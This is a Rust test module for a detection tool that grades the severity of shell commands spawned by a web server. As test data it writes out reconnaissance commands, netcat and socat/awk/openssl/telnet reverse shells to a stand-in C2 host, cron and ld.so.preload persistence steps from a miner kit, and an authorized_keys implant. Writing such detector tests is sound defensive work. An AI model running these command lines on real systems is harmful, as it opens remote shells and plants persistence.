            kid.env.push(minetrace_schemas::records::process::EnvVar {
                name: RawBytes::from(name),
                value: value.strip_prefix(b"=").map(RawBytes::from),
            });
        }
        let own = [&b"/bin/sh"[..], b"/usr/bin/dash", b"/usr/bin/convert"]
            .into_iter()
            .map(|path| {
                let mut c = fixture::not_owned(path, "running-exe");
                if manager.is_some() {
                    c.verdict = PackageVerdict::Match;
                    c.package = Some("dash".into());
                }
                c.manager = manager;
                c
            });
        let checks = first.into_iter().chain(own).collect();
        let model = fixture::model_with_processes(files, checks, vec![fpm, kid]);
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let p = model.process(11)?;
        service_child(&ctx, p, &Names::of(p)).map(|f| f.severity)
    }

    #[test]
    fn a_web_servers_shell_is_judged_by_what_its_command_runs() {
        let recon: &[&[u8]] = &[b"/bin/sh", b"-c", b"id;uname -a;cat /etc/passwd"];
        let shell_out: &[&[u8]] = &[b"/bin/sh", b"-c", b"convert a.jpg -resize 800x800 b.jpg"];
        let one_recon: &[&[u8]] = &[b"/bin/sh", b"-c", b"id"];
        let bare: &[&[u8]] = &[b"/bin/sh", b"-i"];
        let download: &[&[u8]] = &[b"/bin/sh", b"-c", b"curl -s http://x.example/a -o a.jpg"];
        // `python -c` text is no shell line: neither lowered nor read for recon; nor is a shell handing its
        // work to an interpreter or a network tool an application's shell-out.
        let python: &[&[u8]] = &[b"/usr/bin/python3", b"-c", b"import os"];
        let handed: &[&[u8]] = &[b"/bin/sh", b"-c", b"perl -e 'use Socket;'"];
        let nc: &[&[u8]] = &[b"/bin/sh", b"-c", b"nc -l -p 4444 -e sh"];
        assert_eq!(judged(handed), Some(Severity::Medium));
        assert_eq!(judged(nc), Some(Severity::Medium));
        assert_eq!(judged(recon), Some(Severity::High));
        assert_eq!(judged(shell_out), Some(Severity::Low));
        assert_eq!(judged(one_recon), Some(Severity::Medium));
        assert_eq!(judged(bare), Some(Severity::Medium));
        assert_eq!(judged(download), Some(Severity::Medium));
        assert_eq!(judged(python), Some(Severity::Medium));
        // Look-alikes that stay an application's shell-out: benign-php-shellout's line, a program named by
        // its package path, mail handed to sendmail from a file of the application.
        for text in [
            &b"convert /var/www/shop/uploads/p/4711.jpg -resize 800x800 -strip /var/www/shop/uploads/p/4711-800.jpg; git -C /var/www/shop/theme rev-parse --short HEAD; sleep 900"[..],
            b"/usr/bin/convert a.jpg -resize 50% b.jpg",
            b"sendmail -t -i < /var/www/shop/var/mail/4711.eml",
            // Review of train 1, item 4: tools judged by their use, not their name.
            b"df -P /var/www | awk 'NR==2 {print $5}'",
            b"openssl x509 -noout -enddate -in /etc/ssl/certs/shop.pem",
            b"openssl rand -hex 16",
            b"kill -0 4711",
            // Review of train 3, item 8: probes and a file named like gawk's special files.
            b"kill -s 0 4711",
            b"awk -F: '{print $1}' /etc/inetd.conf",
        ] {
            assert_eq!(
                judged(&[b"/usr/bin/dash", b"-c", text]),
                Some(Severity::Low),
                "{}",
                String::from_utf8_lossy(text)
            );
        }
    }

    /// Review of train 2, item 5: what a web server's shell runs is an application's shell-out only when
    /// every program is an ordinary, packaged one that neither reaches the network nor changes the host,
    /// with no URL or `host:port`, and the shell itself is a packaged one, whatever `argv[0]` says.
    /// Reverse shells, web-root payloads and the first moves of a miner kit stay medium.
    #[test]
    fn a_web_servers_shell_running_a_reverse_shell_or_a_payload_is_no_shell_out() {
        let attacks: &[&[u8]] = &[
            // Reverse shells through network-capable programs.
            b"socat tcp:c2.example:443 exec:sh",
            b"awk 'BEGIN{s=\"/inet/tcp/0/c2.example/443\";while(1){s|&getline c;print c|&s}}'",
            b"openssl s_client -quiet -connect c2.example:443",
            b"telnet c2.example 443",
            // An executable under the web root, under a home, or by a relative path.
            b"cd /var/www/html/uploads && ./php-cgi -c k.json",
            b"/home/deploy/bin/thumb a.jpg b.jpg",
            // A miner kit's first moves: kill rivals, unlock the loader, schedule itself.
            b"pkill -f kdevtmpfsi; chattr -i /etc/ld.so.preload",
            b"(crontab -l; echo '@reboot /var/tmp/.x/run') | crontab -",
            b"echo ssh-rsa AAAAB3Nza x >> /var/www/.ssh/authorized_keys",
            // An ordinary program aimed at the network: a URL, a host:port.
            b"convert https://c2.example/x.svg out.png",
            b"convert c2.example:8443 out.png",
        ];
        for text in attacks {
            assert_eq!(
                judged(&[b"/bin/sh", b"-c", text]),
                Some(Severity::Medium),
                "{}",
                String::from_utf8_lossy(text)
            );
        }
        let convert: &[&[u8]] = &[b"sh", b"-c", b"convert a.jpg b.jpg"];
        // Started as `sh` but no packaged shell: a dropped binary, a shell whose bytes differ.
        assert_eq!(
            judged_on(b"/var/www/html/up/sh", convert, &[], vec![], DPKG),
            Some(Severity::Medium)
        );
        assert_eq!(
            judged_on(b"/usr/bin/bash", convert, &[], vec![], DPKG),
            Some(Severity::Medium),
            "no package check vouches for it"
        );
        // Where the host has no package database to vouch for anything (Alpine's apk), a shell in a
        // package directory is the host's: the command still decides.
        let packaged_dir: &[&[u8]] = &[b"/usr/bin/bash", b"-c", b"convert a.jpg b.jpg"];
        assert_eq!(
            judged_without_package_database(packaged_dir),
            Some(Severity::Low)
        );
        let revshell: &[&[u8]] = &[b"/usr/bin/bash", b"-c", b"socat tcp:c2.example:443 exec:sh"];
        assert_eq!(
            judged_without_package_database(revshell),
            Some(Severity::Medium)
        );
        // `convert` found first on its search path in the web root: what runs is that one.
        let path: &[&[u8]] = &[b"PATH=/var/www/html/bin:/usr/bin:/bin"];
        let planted = fixture::file(b"/var/www/html/bin/convert", Some(b"\x7fELF"));
        assert_eq!(
            judged_on(b"/bin/sh", convert, path, vec![planted], DPKG),
            Some(Severity::Medium)
        );
        let packaged = fixture::file(b"/usr/bin/convert", Some(b"\x7fELF"));
        assert_eq!(
            judged_on(b"/bin/sh", convert, path, vec![packaged], DPKG),
            Some(Severity::Low)
        );
        // An admin's own build in /usr/local/bin (root's, writable by no one else) is installed; the same
        // path owned by the service's account is what it planted.
        let local: &[&[u8]] = &[b"PATH=/usr/local/bin:/usr/bin:/bin"];
        let admins = fixture::file(b"/usr/local/bin/convert", Some(b"\x7fELF"));
        assert_eq!(
            judged_on(b"/bin/sh", convert, local, vec![admins], DPKG),
            Some(Severity::Low)
        );
        let mut planted = fixture::file(b"/usr/local/bin/convert", Some(b"\x7fELF"));
        planted.0.uid = 33;
        assert_eq!(
            judged_on(b"/bin/sh", convert, local, vec![planted], DPKG),
            Some(Severity::Medium)
        );
    }

    /// Review of train 3, item 6: a program's or a shell's integrity is judged by an integrity check only.
    /// A `persistence-config` check that differs (an admin's edit of a conffile) ahead of the shell's own
    /// running-exe match, or naming the program the shell runs, makes neither "tampered"; a differing
    /// running-exe or system-binary check still does.
    #[test]
    fn a_configuration_checks_mismatch_is_no_tampered_program() {
        use minetrace_schemas::records::package::PackageVerdict;
        let check = |path: &[u8], reason: &str, verdict| {
            let mut c = fixture::not_owned(path, reason);
            c.verdict = verdict;
            c.package = Some("graphicsmagick".into());
            c.manager = DPKG;
            c
        };
        let gm: &[&[u8]] = &[b"/bin/sh", b"-c", b"/usr/bin/gm convert a.jpg b.jpg"];
        for edited in [&b"/bin/sh"[..], b"/usr/bin/gm"] {
            let conffile = check(edited, "persistence-config", PackageVerdict::Mismatch);
            assert_eq!(
                judged_with_checks(b"/bin/sh", gm, &[], vec![], DPKG, vec![conffile]),
                Some(Severity::Low),
                "{}",
                String::from_utf8_lossy(edited)
            );
        }
        for reason in ["running-exe", "system-binary"] {
            let replaced = check(b"/usr/bin/gm", reason, PackageVerdict::Mismatch);
            assert_eq!(
                judged_with_checks(b"/bin/sh", gm, &[], vec![], DPKG, vec![replaced]),
                Some(Severity::Medium),
                "{reason}"
            );
        }
    }
}
